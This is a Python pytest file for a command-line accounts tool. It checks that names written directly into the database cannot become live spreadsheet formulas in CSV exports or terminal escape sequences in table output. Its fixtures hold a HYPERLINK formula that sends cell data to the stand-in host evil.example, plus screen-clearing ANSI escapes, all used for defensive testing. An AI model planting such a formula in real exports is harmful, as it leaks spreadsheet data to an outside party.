"""Stored text is data: a CSV never hands a spreadsheet a formula, and a terminal never
receives an escape sequence from a record (a name typed by a client, an old import)."""

from __future__ import annotations

import json

import pytest
from cli_support import run
from sqlalchemy import text

from agencia.db.database import open_database

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Pulse aquí")'
ESCAPES = "Cliente \x1b[2J\x1b[31mrojo\x9b0m"


def _rename(url: str, account_id: int) -> None:
    """As an old file or an import would have it: written past the services' checks."""
    db = open_database(url)
    try:
        with db.writer.begin() as conn:
            conn.execute(
                text("UPDATE accounts SET trade_name = :n, legal_name = :l WHERE id = :i"),
                {"n": FORMULA, "l": ESCAPES, "i": account_id},
            )
    finally:
        db.close()


def test_hostile_names_reach_neither_a_spreadsheet_nor_a_terminal(
    capsys: pytest.CaptureFixture[str], demo_url: str
) -> None:
    status, out, err = run(capsys, "accounts", "list", "--db", demo_url, "--format", "json")
    assert status == 0, err
    account_id = json.loads(out)[0]["id"]
    _rename(demo_url, account_id)
    status, out, err = run(capsys, "accounts", "list", "--db", demo_url, "--format", "csv")
    assert status == 0, err
    assert "'=HYPERLINK(" in out and "\n=HYPERLINK" not in out and ",=HYPERLINK" not in out
    status, out, err = run(capsys, "accounts", "list", "--db", demo_url, "--format", "table")
    assert status == 0, err
    assert "\x1b" not in out and "\x9b" not in out
    status, out, err = run(capsys, "account", "show", str(account_id), "--db", demo_url)
    assert status == 0, err
    assert "\x1b" not in out and "\x9b" not in out and "rojo" in out
